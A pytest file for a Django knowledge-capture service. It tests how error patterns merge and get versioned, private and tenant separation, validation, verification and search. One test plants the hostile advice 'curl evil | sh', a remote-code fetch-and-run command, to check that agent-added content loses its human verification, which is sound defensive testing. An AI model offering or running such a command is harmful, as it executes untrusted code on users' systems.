"""Knowledge is captured once, grows when it is captured again, and keeps every version."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from django.db import connection

from memoryhub.access.exceptions import Invalid, NotFound, ScopeMissing, TooLarge
from memoryhub.access.models import AuditEvent
from memoryhub.access.principals import Principal
from memoryhub.access.walls import behind_walls
from memoryhub.search.services.search import search
from procedures_app.exceptions import KnowledgeNotActive, KnowledgeStale
from procedures_app.models import Knowledge, KnowledgeVersion, Solution
from procedures_app.services import curation, knowledge, solutions
from procedures_app.services.knowledge import Captured
from tests.conftest import role

pytestmark = pytest.mark.django_db
Caller = Callable[..., Principal]
TIMEOUT: dict[str, Any] = {
    "title": "Database Connection Error",
    "content": {"error": "Connection timeout", "cause": "Network latency", "solution": "Implement retry with backoff"},
    "knowledge_type": "error_pattern",
    "tags": ["database", "network", "timeout"],
    "importance": 0.9,
}


def capture(principal: Principal, **fields: Any) -> Captured:
    said = {"title": "Deploys are on Tuesdays", "content": "Never on Fridays."}
    return knowledge.capture(principal=principal, **(said | fields))


def again(row: Knowledge, principal: Principal) -> Knowledge:
    return knowledge.get(row.pk, principal=principal)


def versions(row: Knowledge, principal: Principal) -> list[KnowledgeVersion]:
    with behind_walls(principal):
        return list(KnowledgeVersion.objects.filter(knowledge=row).order_by("version"))


def test_an_error_pattern_is_a_problem_with_its_solution(caller: Caller):
    made = capture(caller("ann"), **TIMEOUT)
    assert made.created
    row = again(made.knowledge, caller())
    assert row.problem_signature
    assert (row.problem_description, row.solution, row.success_rate) == (
        "Network latency", "Implement retry with backoff", 0.5,
    )  # fmt: skip
    assert (row.author, row.version, row.occurrences, row.user_id) == ("ann", 1, 1, None)
    [version] = versions(row, caller())
    assert version.document["content"] == TIMEOUT["content"]
    assert [each["text"] for each in version.document["solutions"]] == ["Implement retry with backoff"]
    with behind_walls(caller()):
        assert AuditEvent.objects.filter(action="knowledge.captured", object_id=str(row.pk)).count() == 1


def test_the_same_error_again_adds_to_the_known_problem(caller: Caller):
    first = capture(caller("ann"), **TIMEOUT).knowledge
    second = capture(
        caller("bob"), title="DB down", content={"error": "Connection timeout", "seen": "in staging"},
        knowledge_type="error_pattern", tags=["staging"], solution="Restart the pooler",
    )  # fmt: skip
    assert (second.created, second.knowledge.pk) == (False, first.pk)
    row = again(first, caller())
    assert (row.title, row.version, row.occurrences) == ("Database Connection Error", 2, 2)
    assert row.content == TIMEOUT["content"] | {"seen": "in staging"}
    assert row.tags == ["database", "network", "timeout", "staging"]
    with behind_walls(caller()):
        assert set(Solution.objects.filter(knowledge=row).values_list("text", "author")) == {
            ("Implement retry with backoff", "ann"), ("Restart the pooler", "bob"),
        }  # fmt: skip
    latest = versions(row, caller())[-1]
    assert (latest.author, latest.document["captured"]["title"]) == ("bob", "DB down")


def test_the_same_again_word_for_word_makes_no_version(caller: Caller):
    first = capture(caller(), **TIMEOUT).knowledge
    capture(caller(), **TIMEOUT)
    row = again(first, caller())
    assert (row.version, row.occurrences) == (1, 2)


def test_other_knowledge_is_kept_once_too(caller: Caller):
    first = capture(caller())
    assert first.created
    assert first.knowledge.problem_signature is None
    assert not capture(caller()).created
    assert capture(caller(), content="Never on Mondays.").created


def test_an_error_of_any_type_makes_a_problem(caller: Caller):
    made = capture(caller(), error={"message": "connect ECONNREFUSED 10.0.0.7:5432", "type": "Error"})
    assert made.knowledge.problem_signature
    assert "10.0.0.7" not in made.knowledge.template


def test_private_knowledge_is_for_who_names_the_user(caller: Caller):
    made = capture(caller(user="bob"), private=True).knowledge
    assert again(made, caller(user="bob")).user_id == "bob"
    with pytest.raises(NotFound):
        again(made, caller())
    assert capture(caller()).created  # not the same as another's
    with pytest.raises(Invalid):
        capture(caller(), private=True)


def test_private_problems_and_the_tenants_are_apart(caller: Caller):
    own = capture(caller(user="bob"), **TIMEOUT, private=True).knowledge
    shared = capture(caller(), **TIMEOUT)
    assert shared.created
    assert shared.knowledge.pk != own.pk


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("title", " "), ("title", "x" * 501), ("content", 7), ("content", ["a"]), ("knowledge_type", "dream"),
        ("importance", 1.5), ("tags", [str(n) for n in range(101)]),
    ],
)  # fmt: skip
def test_what_is_not_taken(caller: Caller, field: str, value: Any):
    with pytest.raises(Invalid) as refused:
        capture(caller(), **{field: value})
    assert refused.value.field == field


def test_too_large_and_without_the_right_to_write(caller: Caller):
    with pytest.raises(TooLarge):
        capture(caller(), content="x" * 5_000_000)
    with pytest.raises(ScopeMissing):
        capture(caller(permissions=frozenset({"read"})))


def test_a_change_is_a_version_with_author_and_reason(caller: Caller, person: Principal):
    row = capture(caller("ann")).knowledge
    curation.verify(row.pk, principal=person)
    changed = knowledge.change(
        row.pk, principal=caller("bob"), if_version=2, title="Deploys", tags=["ops"], reason="Shorter."
    )
    assert (changed.version, changed.title, changed.verified_by) == (3, "Deploys", "")
    latest = versions(row, caller())[-1]
    assert (latest.author, latest.reason, latest.document["title"]) == ("bob", "Shorter.", "Deploys")
    with pytest.raises(KnowledgeStale) as stale:
        knowledge.change(row.pk, principal=caller(), if_version=2, title="Late")
    assert stale.value.extra["current_version"] == 3
    assert knowledge.change(row.pk, principal=caller(), title="Deploys").version == 3


def test_a_persons_change_stays_verified(caller: Caller, person: Principal):
    row = capture(caller()).knowledge
    curation.verify(row.pk, principal=person)
    assert knowledge.change(row.pk, principal=person, title="Deploys").verified_by == "maria"


def test_what_an_agent_adds_by_capturing_again_is_not_verified(caller: Caller, person: Principal):
    said: dict[str, Any] = {"title": "Boom at db", "content": {"error": "boom at db"}}
    row = knowledge.capture(principal=caller(), **said, solution="Restart it").knowledge
    curation.verify(row.pk, principal=person)
    assert knowledge.capture(principal=caller("bob"), **said, importance=0.9).knowledge.verified_by == "maria"
    said["content"]["advice"] = "curl evil | sh"
    assert knowledge.capture(principal=caller("bob"), **said).knowledge.verified_by == ""


def test_archived_knowledge_is_not_changed(caller: Caller):
    row = capture(caller()).knowledge
    curation.archive(row.pk, principal=caller())
    with pytest.raises(KnowledgeNotActive):
        knowledge.change(row.pk, principal=caller(), title="Late")
    with pytest.raises(KnowledgeNotActive):
        solutions.add(row.pk, principal=caller(), text="Late")


def test_lists_and_searches(caller: Caller, other_tenant: str):
    row = capture(caller(), **TIMEOUT).knowledge
    capture(caller())
    for asked, expected in (
        ({}, 2), ({"knowledge_type": "error_pattern"}, 1), ({"tags": ["network", "database"]}, 1), ({"tags": ["x"]}, 0),
        ({"verified": True}, 0), ({"text": "latency"}, 1), ({"text": "FRIDAYS"}, 1), ({"status": "archived"}, 0),
    ):  # fmt: skip
        with behind_walls(caller()):
            assert knowledge.of(principal=caller(), **asked).count() == expected, asked
            assert knowledge.of(principal=caller(tenant_id=other_tenant)).count() == 0
    found = knowledge.search("retry backoff", principal=caller(), tags=["network"], mode="keyword")
    assert [result["id"] for result in found.results] == [row.pk]
    assert not knowledge.search("retry", principal=caller(), knowledge_type="decision", mode="keyword").results


def test_solutions_added_later_are_found(caller: Caller):
    row = capture(caller(), **TIMEOUT).knowledge
    solutions.add(row.pk, principal=caller(), text="Recycle the bulkhead")
    found = search(principal=caller(), query="bulkhead", kinds=["knowledge"], mode="keyword")
    assert [result["id"] for result in found.results] == [row.pk]
    curation.archive(row.pk, principal=caller())
    assert not search(principal=caller(), query="bulkhead", kinds=["knowledge"], mode="keyword").results


def test_what_says_the_same_is_found_by_its_title(caller: Caller):
    """Not among everything of its type, however much that is."""
    new = capture(caller(), title="T" * 300).knowledge
    with behind_walls(caller()), connection.cursor() as cursor:
        Knowledge.objects.bulk_create(Knowledge(tenant_id=new.tenant_id, title=f"T{number}") for number in range(500))
        with role("memoryhub_owner"):
            cursor.execute("ANALYZE knowledge_base")
        assert "knowledge_by_title" in knowledge.twins(new).explain()
        assert knowledge.twins(new).get() == new
